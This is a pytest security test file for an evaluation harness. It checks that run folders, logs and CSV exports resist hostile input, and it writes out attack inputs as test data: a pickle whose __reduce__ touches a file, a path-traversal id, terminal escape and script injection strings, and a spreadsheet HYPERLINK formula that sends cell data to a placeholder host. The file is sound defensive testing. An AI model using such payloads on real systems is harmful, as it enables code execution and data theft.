"""Run folders, images and data files are untrusted: each way in is tried."""

from __future__ import annotations

import ast
import csv
import hashlib
import json
import pickle
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from PIL import Image

from harmon_eval.core import Draw, Sample, UserError
from harmon_eval.store.durable import read_json, write_json
from harmon_eval.store.log import log_line, read_log_line
from harmon_eval.store.redact import redacted
from harmon_eval.store.run_folder import RunFolder
from harmon_eval.store.tables import defused
from harmon_eval.store.task_folder import TaskFolder

Call = Callable[..., Any]
ROOT = Path(__file__).resolve().parents[2]
DRAW = ("--model", "scripted", "--tasks", "toy_draw", "--output", "run")
ESCAPE = "\x1b]0;owned\x07\x1b[31m"


class Bomb:
    """Unpickling it leaves a file."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.mark,)


# `serve --pickle` writes pickles; what it reads is plain data only (tests/serving).
WRITES = ("pickle.dumps", "pickle.UnpicklingError")


def test_no_source_file_can_unpickle_or_evaluate() -> None:
    """``torch.load`` only with ``weights_only=True``; no pickle, no ``allow_pickle``, no eval."""
    for file in [
        *ROOT.glob("harmon_eval/**/*.py"),
        *ROOT.glob("model/**/*.py"),
        *ROOT.glob("tasks/**/*.py"),
    ]:
        for node in ast.walk(ast.parse(file.read_text())):
            if not isinstance(node, ast.Call):
                continue
            called = ast.unparse(node.func)
            given = {word.arg: ast.unparse(word.value) for word in node.keywords}
            assert called not in ("eval", "exec", "pd.read_pickle", "yaml.load"), file
            if called not in WRITES:
                assert not re.match(r"(pickle|marshal|shelve|joblib|dill)\.", called), file
            assert given.get("allow_pickle") != "True", file
            if called == "torch.load":
                assert given.get("weights_only") == "True", file


@pytest.mark.parametrize("name", ["rows.parquet", "marks.json", "manifest.json", "responses.jsonl"])
def test_a_pickle_in_the_place_of_a_file_of_a_run_is_never_opened(
    call: Call, tmp_path: Path, name: str
) -> None:
    call(*DRAW)
    mark = tmp_path / "owned"
    folder = tmp_path / "run" / ("" if name == "manifest.json" else "toy_draw")
    (folder / name).write_bytes(pickle.dumps(Bomb(mark)))
    assert call(*DRAW).code == 0
    assert not mark.exists()


def test_a_link_in_a_run_folder_is_neither_read_nor_written_through(
    call: Call, tmp_path: Path
) -> None:
    call(*DRAW)
    outside = tmp_path / "outside"
    outside.mkdir()
    images = tmp_path / "run/toy_draw/images"
    images.rename(outside / "images")
    images.symlink_to(outside / "images")
    (outside / "images/red-1/samples/0001.png").unlink()
    before = sorted(p.name for p in outside.rglob("*.png"))
    refused = call(*DRAW)
    assert refused.code == 2 and "link" in refused.err
    assert sorted(p.name for p in outside.rglob("*.png")) == before


def test_an_image_that_is_a_link_is_drawn_again_in_its_place(call: Call, tmp_path: Path) -> None:
    call(*DRAW)
    image = tmp_path / "run/toy_draw/images/red-1/samples/0001.png"
    secret = tmp_path / "secret.png"
    image.rename(secret)
    content = secret.read_bytes()
    image.symlink_to(secret)
    assert "1 stored responses were damaged" in call(*DRAW).err
    assert not image.is_symlink() and secret.read_bytes() == content


@pytest.mark.parametrize("name", ["toy_draw", "toy_draw/metrics.json", "toy_draw/responses.jsonl"])
def test_a_linked_task_log_or_result_is_refused(call: Call, tmp_path: Path, name: str) -> None:
    call(*DRAW)
    file = tmp_path / "run" / name
    file.rename(tmp_path / "elsewhere")
    file.symlink_to(tmp_path / "elsewhere")
    outcomes = [call(*command) for command in (("show", "run"), ("mark", "run"))]
    assert any(done.code and "is a link" in done.err for done in outcomes)


def test_an_id_in_a_log_that_no_task_has_reaches_no_file(call: Call, tmp_path: Path) -> None:
    call(*DRAW)
    log = tmp_path / "run/toy_draw/responses.jsonl"
    hostile = {"id": "../../../secret", "sha256": hashlib.sha256(b"x").hexdigest()}
    odd = [{"id": ["x"], "reply": "y"}, {"id": "z", "attempt": "many", "reply": 3}]
    with log.open("ab") as file:
        file.write(b"".join(map(log_line, [hostile, *odd[:1]])))
    assert call(*DRAW).code == 0


@pytest.mark.parametrize(
    "manifest",
    [
        [],
        {"identity": []},
        {"identity": {"suite": 3, "seed": 0}, "tasks": {}},
        {"identity": {"suite": "mini", "seed": 0}, "tasks": {"toy_draw": {"limit": "9"}}},
    ],
)
def test_a_manifest_of_the_wrong_form_is_one_line(
    call: Call, tmp_path: Path, manifest: object
) -> None:
    (tmp_path / "run").mkdir()
    (tmp_path / "run/manifest.json").write_text(json.dumps(manifest))
    for command in ("show", "mark"):
        refused = call(command, "run")
        assert refused.code == 2 and "not the manifest of a run" in refused.err


def test_rows_that_would_not_fit_into_memory_are_not_unpacked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Ten million equal numbers are a few kilobytes of Parquet."""
    monkeypatch.setattr("harmon_eval.store.task_folder.MAX_ROWS_BYTES", 2**20)
    monkeypatch.setattr(pd, "read_parquet", None)
    folder = TaskFolder(tmp_path)
    table = pa.table({"id": pa.array(range(1_000_000)), "unscored": [None] * 1_000_000})
    pq.write_table(table, tmp_path / "rows.parquet")
    digest = hashlib.sha256((tmp_path / "rows.parquet").read_bytes()).hexdigest()
    write_json(tmp_path / "marks.json", {"key": {}, "sha256": digest})
    assert folder.marks({}) is None


def test_escape_sequences_of_a_run_never_reach_terminal_or_tables(
    call: Call, tmp_path: Path
) -> None:
    call(*DRAW)
    file = tmp_path / "run/toy_draw/metrics.json"
    result = read_json(file)
    result["task"] = f"[bold]{ESCAPE}<script>alert(1)</script>|"
    result["headline"] = f"{ESCAPE}x"
    result["metrics"] = {result["headline"]: 1.0, f"=cmd|{ESCAPE}": 2.0}
    result["unscored"] = {ESCAPE: 3}
    result["bounds"] = [0.0, 1.0]
    write_json(file, result)
    shown = [call("show", "run"), call("leaderboard", "run")]
    for done in shown:
        assert "\x1b" not in done.out + done.err and "\x07" not in done.out + done.err
    from harmon_eval.store import tables

    tables.write_tables(tmp_path / "run")
    assert all("\x1b" not in line for line in tables.bounds(tmp_path / "run"))
    markdown = (tmp_path / "run/table.md").read_text()
    assert "\x1b" not in markdown and "<script>" not in markdown
    with (tmp_path / "run/table.csv").open(newline="") as table:
        cells = [row["metric"] for row in csv.DictReader(table)]
    assert not [cell for cell in cells if cell.startswith("=")]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_defused(start: str) -> None:
    assert defused(f"{start}1+1") == f"'{start}1+1"
    assert defused("a=b") == "a=b" and defused(-1.5) == -1.5 and defused("") == ""


def test_no_cell_of_a_leaderboard_in_csv_is_a_formula(call: Call, tmp_path: Path) -> None:
    """Names of models, settings and metrics come from run folders, which anybody may have made."""
    call(*DRAW)
    formula = '=HYPERLINK("http://host/?"&A1)'
    manifest = read_json(tmp_path / "run/manifest.json")
    manifest["identity"]["model"] |= {"name": formula, "settings": {"@SUM(1)": 2}}
    write_json(tmp_path / "run/manifest.json", manifest)
    file = tmp_path / "run/toy_draw/metrics.json"
    result = read_json(file)
    result["task"], result["headline"] = "+toy", "-x"
    result["metrics"], result["intervals"] = {"-x": -0.5}, {"-x": [-1.0, 0.0]}
    write_json(file, result)
    assert call("leaderboard", "run", "--output", "board.csv").code == 0
    text = (tmp_path / "board.csv").read_text()
    rows = list(csv.DictReader(text.splitlines()))
    assert rows[0]["model"] == "'" + formula and rows[0]["value"] == "-0.5"
    texts = ("model", "task", "metric", "protocol", "settings", "run", "sources", "text")
    for row in rows:
        assert not [row[name] for name in texts if row[name][:1] in tuple("=+-@")]


def test_keys_and_tokens_are_neither_stored_nor_printed(
    call: Call, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import toy_benchmark

    secret = "correct-horse-battery"
    monkeypatch.setenv("JUDGE_API_KEY", secret)
    known = "sk-" + "a1b2" * 6

    def refusing(self: Any, requests: Any) -> Any:
        raise OSError(f"401 for https://me:{secret}@host/ Bearer {secret} and {known}")

    monkeypatch.setattr(toy_benchmark.Flaky, "draw", refusing)
    monkeypatch.setattr(
        toy_benchmark.Flaky, "settings", {"api_key": "abc", "url": f"https://u:{secret}@h/"}
    )
    done = call("--model", "toy_flaky", "--tasks", "toy_draw", "--limit", 2, "--output", "run")
    assert done.code == 1
    texts = [done.out, done.err]
    texts += [p.read_bytes().decode("latin1") for p in (tmp_path / "run").rglob("*") if p.is_file()]
    for text in texts:
        assert secret not in text and known not in text and '"abc"' not in text
    assert "[hidden]" in json.dumps(read_json(tmp_path / "run/toy_draw/metrics.json"))


def test_what_looks_like_no_key_is_left_alone() -> None:
    kept = {"max_new_tokens": 64, "key": {"version": "1"}, "url": "https://host/path", "n": [1.5]}
    assert redacted(kept) == kept


@pytest.mark.parametrize(
    "line", [b"", b"{}", b"\xff", b'{"id": "a"}', b'null, "crc32": "0"}', b"[" * 100_000]
)
def test_a_line_of_a_log_without_its_checksum_is_no_entry(line: bytes) -> None:
    assert read_log_line(line) is None


def test_a_flipped_bit_anywhere_in_a_line_or_file_is_found(tmp_path: Path) -> None:
    entry = {"id": "a", "reply": "yes \u2028 \U0001f7e5"}
    line = log_line(entry)
    write_json(tmp_path / "f.json", {"score": 0.5, "name": "x"})
    text = (tmp_path / "f.json").read_bytes()
    for bit in range(0, 8 * len(line) - 8):
        flipped = bytearray(line)
        flipped[bit // 8] ^= 1 << bit % 8
        assert read_log_line(bytes(flipped)) in (
            None,
            {"id": "a", "reply": "yes \u2028 \U0001f7e5"},
        )
    for bit in range(8 * text.index(b'"checksum"')):
        flipped = bytearray(text)
        flipped[bit // 8] ^= 1 << bit % 8
        (tmp_path / "f.json").write_bytes(flipped)
        try:
            assert read_json(tmp_path / "f.json") == {"score": 0.5, "name": "x"}
        except UserError:
            continue


def test_a_sample_cannot_place_its_image_behind_a_link(tmp_path: Path) -> None:
    (tmp_path / "outside").mkdir()
    folder = TaskFolder(tmp_path / "task")
    (tmp_path / "task").mkdir()
    (tmp_path / "task/images").symlink_to(tmp_path / "outside")
    sample = Sample("a", Draw("p"), {}, "a")
    with pytest.raises(UserError, match="link"):
        folder.record({sample.id: Image.new("RGB", (2, 2))})
    assert not list((tmp_path / "outside").iterdir())
    assert RunFolder(tmp_path).task("../..").path.parent == tmp_path


def test_a_folder_whose_name_only_begins_the_same_is_outside(tmp_path: Path) -> None:
    inside, beside = tmp_path / "geneval", tmp_path / "geneval_fresh"
    (beside / "images").mkdir(parents=True)
    inside.mkdir()
    (inside / "images").symlink_to(beside / "images")
    with pytest.raises(UserError, match="link"):
        TaskFolder(inside).record({"a": Image.new("RGB", (2, 2))})
    assert not list(beside.rglob("*.png"))


def test_half_a_surrogate_pair_in_a_reply_ends_no_run(tmp_path: Path) -> None:
    folder = TaskFolder(tmp_path)
    folder.record({"a": json.loads('"\\ud800 yes"'), "b": ValueError("\ud800")})
    stored = folder.recorded()
    assert stored["a"]["reply"] == "? yes" and stored["b"]["error"] == "ValueError: ?"
    pd.DataFrame(stored.values()).to_parquet(tmp_path / "rows.parquet")
